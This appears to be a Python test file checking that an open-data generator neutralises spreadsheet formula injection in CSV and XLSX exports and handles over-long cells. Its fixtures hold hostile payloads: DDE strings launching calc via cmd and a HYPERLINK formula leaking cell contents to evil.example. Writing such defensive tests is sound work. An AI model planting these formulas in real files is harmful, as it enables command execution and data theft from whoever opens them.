"""Hostile open data (issue 19, items 3 and 9): formulas a spreadsheet would run, cells a spreadsheet would cut.

Excel in a Russian locale opens a comma-separated file splitting it at «;» too (its list separator), and some
readers split a quoted field at its line breaks: so a formula may start in the middle of a cell, after «;», «,»,
a tab or a line break, not only at its start (OWASP, «CSV Injection»). A test site whose every text field, and
every vocabulary of the settings, carries such payloads (written here by hand) is built into datasets, the files
are written and read back as readers read them: Python's ``csv`` with «,» and with «;», the text split at every
separator a reader may split at, openpyxl. JSON is read by programs, never by spreadsheets: it keeps the text
as written. A cell longer than a spreadsheet holds (32,767 characters) is refused by ``innopub check`` where it is
one field, and cut the same way in every format, with a warning, where it is made of many.
"""

from __future__ import annotations

import csv
import io
import json
import re
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from generator.common.cells import fit, neutralise
from generator.coordinators.datasets import datasets
from generator.coordinators.monitoring_datasets import CATALOGUE
from generator.coordinators.opendata import Catalogue, publish, write
from generator.model.load import load_content
from generator.settings.config import load_config
from generator.settings.options import make_settings
from generator.site.site import Site
from tests.conftest import TODAY, innopub, project, write_files
from tests.fixtures.opendata import PUBLISHER, SITE_URL, dataset_folder, files_of, read_csv

FORMULA = tuple("=+-@＝＋－＠")
SPLIT = re.compile(r"[,;\t\r\n]")
"""Where a spreadsheet may split a CSV line: the file's comma, Excel's Russian list separator, a tab, a line break."""
LEAD = ' \t\r\n\xa0"'
"""What a reader may skip before a formula: spaces (trimmed on import) and a quote (a field quoted in the middle)."""

# The payloads, by hand: a formula after «;» (the issue's), after «,», after «; » (the datasets' own separator of
# a list), after a line break (=, @), after a tab, after a quote, at the start; full-width forms.
SEMI = "Сокол;=cmd|' /C calc'!A0;"
LINES = "ул. Мира, 1\n=1+1\n@SUM(1)\tк. 2\t-2+3+cmd|' /C calc'!A0"
COMMA = "Школа,+7 (999) 000-00-00"
SPACED = 'Гимназия; =HYPERLINK("http://evil.example/?leak="&A1;"Подробнее")'
QUOTED = 'Центр;"=1+1"'
START = "@SUM(1+1)*cmd|' /C calc'!A0"
WIDE = "Лицей,＝1+1"

VOCABULARIES = {
    "statuses": [{"code": "РИП", "name": "региональная;=1+1", "level": "+региональный"}],
    "directions": ["=Современная школа", "Учитель;@будущего"],
    "levels": [{"code": "ДО", "name": "дошкольное,-образование"}],
    "event_kinds": ["семинар;=1+1"],
    "organization_kinds": ["школа,+1"],
}
"""The settings are trusted, but what they name reaches the same cells: neutralised by the same rule."""
SETTINGS = "".join(f"      {key}: {json.dumps(value, ensure_ascii=False)}\n" for key, value in VOCABULARIES.items())
"""The same, as the plugin's options in ``mkdocs.yml`` (JSON is YAML); the publisher of the open data is the demo's."""

ORGANIZATION = """---
title: '=HYPERLINK("http://evil.example/?leak="&A1;"Подробнее")'
short: {short}
municipality: {municipality}
kind: "школа,+1"
district: "Район, -2+3+cmd|' /C calc'!A0"
address: {address}
website: "https://evil.example/a;=1+1,@SUM(1)"
tags: ["=1+1", "тег;@SUM(1)"]
directions: ["=Современная школа"]
---
"""
CONTENT = {
    "organizations/zlo.md": ORGANIZATION.format(
        short=json.dumps(COMMA, ensure_ascii=False), municipality=json.dumps(SEMI, ensure_ascii=False), address=json.dumps(LINES, ensure_ascii=False)
    ),
    "organizations/shkola.md": ORGANIZATION.format(
        short=json.dumps(SPACED, ensure_ascii=False),
        municipality=json.dumps(START, ensure_ascii=False),
        address=json.dumps(QUOTED, ensure_ascii=False),
    ),
    "platforms/koop.md": f"""---
title: "Тема;-2+3+cmd|' /C calc'!A0"
status: РИП
organizations: [zlo, shkola]
start: 2022-09-01
leader: "Иванова Анна;=cmd|' /C calc'!A0"
supervisor: {{name: "Петров Пётр,@SUM(1)", position: "=должность"}}
stage: "основной; +7 этап"
directions: ["Учитель;@будущего", "=Современная школа"]
tags: [{json.dumps(WIDE, ensure_ascii=False)}]
---
""",
    "reports/koop-2023.md": """---
title: "Отчёт, =1+1"
date: 2023-06-20
platform: koop
period: 2022/2023
authors: ["Сидорова Анна; @SUM(1)"]
stage: "=этап"
attachments: ["otchet;=1+1.pdf"]
---
""",
    "files/otchet;=1+1.pdf": "%PDF-1.4\n",
    "practices/praktika.md": """---
title: 'Практика;"=1+1"'
date: 2023-05-01
authors: ["Кузнецова Ольга, -1"]
organization: zlo
platform: koop
levels: [ДО]
subjects: ["=математика", "физика; +1"]
event: seminar
tags: ["-тег"]
directions: ["Учитель;@будущего"]
---
""",
    "events/seminar.md": """---
title: "Семинар,@SUM(1)"
kind: "семинар;=1+1"
date: 2023-02-01
place: "ИМЦ;=cmd|' /C calc'!A0"
organizers: [zlo, shkola]
participants: 12
sections: ["=секция", "Секция 2, -1"]
---
""",
    "decisions/reshenie.md": """---
title: "Решение; =1+1"
kind: решение коллегии
date: 2023-03-01
issuer: "Коллегия;@SUM(1)"
number: "01-05/295;=1+1"
items:
  - number: "1;=1"
    text: "Поручить;=cmd|' /C calc'!A0"
    responsible: [zlo, "Управление,+7"]
    due: 2023-09-01
    done: 2023-08-01
    result: "Сделано\\n=1+1"
    evidence: [reports/koop-2023]
  - text: "@SUM(1)"
    responsible: ["=Отдел"]
    due: "ежемесячно;=1+1"
---
""",
}


def settings():
    return make_settings({"opendata": PUBLISHER, "today": TODAY, **VOCABULARIES}, "mkdocs.yml")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Catalogue, Path]:
    root = tmp_path_factory.mktemp("hostile-data")
    write_files(root / "content", CONTENT)
    model, problems = load_content(root / "content", settings())
    assert not problems.failed(), problems.report()
    catalogue = publish(datasets(model, SITE_URL, CATALOGUE), model.settings.opendata, SITE_URL)
    write(catalogue, root / "site")
    return catalogue, root / "site"


def live(text: str) -> list[str]:
    """The pieces of ``text`` a spreadsheet may read as a formula: each piece between separators, after what a
    reader may skip, starting with =, +, - or @ (an apostrophe before it makes it text)."""
    return [piece for piece in SPLIT.split(text) if piece.lstrip(LEAD).startswith(FORMULA)]


def data_files(site: Path) -> list[Path]:
    return sorted((site / "opendata").rglob("data-*.csv"))


def test_every_dataset_is_built_and_carries_payloads(hostile: tuple[Catalogue, Path]) -> None:
    """The site is hostile in every dataset: a cell of each holds a payload somewhere (else the test proves nothing)."""
    catalogue, _ = hostile
    payloaded = {p.dataset.name for p in catalogue.datasets for row in p.dataset.rows for v in row if isinstance(v, str) and live(v)}
    text_datasets = {p.dataset.name for p in catalogue.datasets if any(c.format == "string" for c in p.dataset.columns)}
    assert payloaded == text_datasets - {"monitoringyears"}  # its only text is the academic year
    assert len(payloaded) == 8


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_csv_read_at_comma_and_semicolon_has_no_formula(hostile: tuple[Catalogue, Path], delimiter: str) -> None:
    """Python's csv module as Excel reads the file: at «,» (the file's own), at «;» (a Russian locale's); each field
    also split at its line breaks and tabs (a reader that splits quoted fields)."""
    _, site = hostile
    for path in data_files(site):
        text = path.read_bytes().decode("utf-8")
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting):
                for field in row:
                    for piece in re.split(r"[\t\r\n]", field):
                        assert not piece.lstrip(LEAD).startswith(FORMULA), f"{path.name}: {piece!r} in {field!r}"


def test_no_piece_of_any_csv_line_starts_a_formula(hostile: tuple[Catalogue, Path]) -> None:
    """Whatever a reader does with quotes: the file split at every separator has no piece that starts a formula."""
    _, site = hostile
    for path in data_files(site):
        assert not live(path.read_bytes().decode("utf-8")), path.name


def test_neutralised_csv_cells_and_exact_json(hostile: tuple[Catalogue, Path]) -> None:
    """CSV: an apostrophe before each formula, where it starts (OWASP); the rest of the text as written.
    JSON: the text exactly as written."""
    _, site = hostile
    _, data, _, data_path = files_of(dataset_folder(site, "organizations"))
    rows = {row[0]: dict(zip(data[0], row, strict=True)) for row in data[1:]}
    assert rows["zlo"]["municipality"] == "Сокол;'=cmd|' /C calc'!A0;"
    assert rows["zlo"]["address"] == "ул. Мира, 1\n'=1+1\n'@SUM(1)\tк. 2\t'-2+3+cmd|' /C calc'!A0"
    assert rows["zlo"]["shortname"] == "Школа,'+7 (999) 000-00-00"
    assert rows["zlo"]["fullname"] == """'=HYPERLINK("http://evil.example/?leak="&A1;"Подробнее")"""
    assert rows["shkola"]["shortname"] == """Гимназия; '=HYPERLINK("http://evil.example/?leak="&A1;"Подробнее")"""
    assert rows["shkola"]["municipality"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["shkola"]["address"] == """Центр;"'=1+1\""""
    assert rows["zlo"]["website"] == "https://evil.example/a;'=1+1,'@SUM(1)"
    document = json.loads(data_path.with_suffix(".json").read_bytes().decode("utf-8"))
    exact = {row["id"]: row for row in document["data"]}
    assert (exact["zlo"]["municipality"], exact["zlo"]["address"], exact["zlo"]["shortname"]) == (SEMI, LINES, COMMA)
    assert (exact["shkola"]["shortname"], exact["shkola"]["municipality"], exact["shkola"]["address"]) == (SPACED, START, QUOTED)
    _, platforms, _, _ = files_of(dataset_folder(site, "platforms"))
    row = dict(zip(platforms[0], platforms[1], strict=True))
    assert row["municipality"] == "Сокол;'=cmd|' /C calc'!A0;; '@SUM(1+1)*cmd|' /C calc'!A0"  # joined with «; », then neutralised
    assert row["directions"] == "Учитель;'@будущего; '=Современная школа"
    _, tags, _, _ = files_of(dataset_folder(site, "practices"))
    assert dict(zip(tags[0], tags[1], strict=True))["tags"] == "'-тег"


def test_xlsx_has_no_formula_and_no_live_text(hostile: tuple[Catalogue, Path]) -> None:
    """openpyxl: no formula cell, no <f> in the sheets' XML, and no text cell with a piece that starts a formula;
    each text cell is the CSV's cell (the same neutralised text), so a coordinator's «Текст по столбцам» at «;»
    or an edited cell runs nothing either."""
    _, site = hostile
    workbooks = sorted((site / "opendata").rglob("data-*.xlsx"))
    assert len(workbooks) == 9  # every dataset is a workbook too (issue 21)
    for path in workbooks:
        archive = zipfile.ZipFile(path)
        assert not [n for n in archive.namelist() if n.startswith("xl/worksheets/") and "<f>" in archive.read(n).decode()]
        workbook = openpyxl.load_workbook(path)
        cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], path.name
        data = [[c.value for c in row] for row in workbook["Данные"].iter_rows()]
        for value in (v for row in data for v in row if isinstance(v, str)):
            assert not live(value), f"{path.name}: {value!r}"
        written = read_csv(path.with_suffix(".csv"))
        for sheet_row, csv_row in zip(data[1:], written[1:], strict=True):
            assert [v for v in sheet_row if isinstance(v, str)] == [c for v, c in zip(sheet_row, csv_row, strict=True) if isinstance(v, str)]
    terms = openpyxl.load_workbook(next(p for p in workbooks if "statusterms" in str(p)))["Данные"]
    values = [c.value for c in next(terms.iter_rows(min_row=2, max_row=2))]
    assert "Сокол;'=cmd|' /C calc'!A0;; '@SUM(1+1)*cmd|' /C calc'!A0" in values


# Item 9: a cell longer than a spreadsheet holds.

LONG = "Вологодская обл., г. Сокол, ул. Мира, д. 1; " * 1000
"""The issue's 40,000-character cell (a character more or less), of one field: ``innopub check`` refuses it."""


def test_a_field_too_long_for_a_cell_is_a_check_error_at_its_line(tmp_path: Path) -> None:
    """A value of one field over 10,000 characters (with apostrophes and beside other values it would not fit a cell):
    ``innopub check`` names its file and line, nested values too; a title keeps its own limit (one error, not two)."""
    assert len(LONG.strip()) == 43_999
    organization = ORGANIZATION.format(short='"Школа"', municipality='"г. Сокол"', address=json.dumps(LONG, ensure_ascii=False))
    decision = CONTENT["decisions/reshenie.md"].replace('text: "@SUM(1)"', f"text: {'Поручить. ' * 1001}")
    practice = CONTENT["practices/praktika.md"].replace('"Кузнецова Ольга, -1"', f"{{name: Кузнецова Ольга, position: {'методист ' * 1200}}}")
    event = CONTENT["events/seminar.md"].replace('"Семинар,@SUM(1)"', "Семинар " * 2000)
    changed = {"organizations/zlo.md": organization, "decisions/reshenie.md": decision, "practices/praktika.md": practice, "events/seminar.md": event}
    result = innopub("check", cwd=project(tmp_path, {**CONTENT, **changed}, extra_config=SETTINGS))
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    errors = [line for line in result.stderr.splitlines() if line.startswith("content/")]
    expected = "ожидается не больше 10000; длинный текст — в тексте записи"
    assert errors == [
        f"content/decisions/reshenie.md:15: значение поля «text» длиннее допустимого: 10009\xa0символов ({expected})",
        "content/events/seminar.md:2: значение поля «title» длиннее допустимого: 15999\xa0символов (ожидается не больше 500)",
        f"content/organizations/zlo.md:7: значение поля «address» длиннее допустимого: 43999\xa0символов ({expected})",
        f"content/practices/praktika.md:4: значение поля «position» длиннее допустимого: 10799\xa0символов ({expected})",
    ], result.stderr


SHORT = "Школа;=1+1 " + "я" * 8989
"""A short name of 9,000 characters: within the limit of a field; five of them in one cell are not."""


def test_a_cell_joined_too_long_is_cut_the_same_in_every_format_with_a_warning(tmp_path: Path) -> None:
    """A platform of five organizations whose short names have 9,000 characters each: its cell of their names holds
    45,008 (with «; » between them), more than XLSX holds — XlsxWriter alone cut it to 32,767 in XLSX only, without
    a word. Cut once, CSV, JSON and XLSX hold the same beginning (neutralised in CSV and XLSX), and the build says
    where."""
    assert len(SHORT) == 9000
    shorts = [json.dumps(f"{SHORT[:-1]}{i}", ensure_ascii=False) for i in range(5)]
    extra = {f"organizations/org-{i}.md": ORGANIZATION.format(short=short, municipality="Сокол", address="Мира") for i, short in enumerate(shorts)}
    platform = CONTENT["platforms/koop.md"].replace("organizations: [zlo, shkola]", "organizations: [org-0, org-1, org-2, org-3, org-4]")
    content = {**CONTENT, **extra, "platforms/koop.md": platform}
    root = project(tmp_path, content, extra_config=SETTINGS)
    site = Site(load_config(root / "mkdocs.yml"))
    assert not site.load().failed(), site.problems.report()
    site.prepare()
    inn = site.settings.opendata.inn
    where = [notice.split(":", 1)[0] for notice in site.notices]
    years = range(2022, 2027)  # 2022/2023 (the platform's start) to 2026/2027 (today's)
    assert where == [
        f"открытые данные, набор {inn}-platforms, строка 2 («koop»), поле «organizationnames»",
        f"открытые данные, набор {inn}-reports, строка 2 («koop-2023»), поле «organizationnames»",
        *[f"открытые данные, набор {inn}-reportingyears, строка {row} («koop»), поле «organizationnames»" for row in range(2, 2 + len(years))],
        f"открытые данные, набор {inn}-statusterms, строка 2 («koop»), поле «organizationnames»",
    ], site.notices
    assert site.notices[0].split(": ", 1)[1] == (
        "45\xa0008 символов — больше, чем вмещает ячейка таблицы (32\xa0767); в CSV, JSON и XLSX записано одно и то же начало значения с «…»"
    )
    files = {f.path: f.data for f in site.files() if f.path.startswith("opendata/")}
    joined = "; ".join(f"{SHORT[:-1]}{i}" for i in range(5))
    for name in ("platforms", "statusterms"):
        stem = next(p for p in files if p.startswith(f"opendata/{inn}-{name}/data-") and p.endswith(".csv")).removesuffix(".csv")
        header, row = list(csv.reader(io.StringIO(files[f"{stem}.csv"].decode("utf-8"), newline="")))
        in_csv = row[header.index("organizationnames")]
        in_json = json.loads(files[f"{stem}.json"])["data"][0]["organizationnames"]
        assert in_json.endswith("…") and joined.startswith(in_json[:-1]) and len(in_json) < len(joined)
        assert in_csv == in_json.replace("Школа;=1+1", "Школа;'=1+1")
        assert 32_767 - 2 <= len(in_csv) <= 32_767  # as long as a cell holds, but for an apostrophe that would not fit
        if name == "statusterms":
            sheet = openpyxl.load_workbook(io.BytesIO(files[f"{stem}.xlsx"]))["Данные"]
            assert [c.value for c in sheet[2]][header.index("organizationnames")] == in_csv


def test_a_long_run_of_line_breaks_is_neutralised_in_linear_time() -> None:
    """A reader may skip spaces and line breaks before a formula: a run of 40,000 of them, looked at from each of its
    characters, took minutes (a regular expression backtracking through it); looked at once, milliseconds."""
    text = "ул. Мира" + "\n" * 40_000 + "=1+1"
    started = time.perf_counter()
    assert neutralise(text) == "ул. Мира" + "\n" * 40_000 + "'=1+1"
    assert fit(text) == "ул. Мира" + "\n" * 32_758 + "…"  # 8 + 32,758 + 1 = 32,767: a cell's worth
    assert time.perf_counter() - started < 2
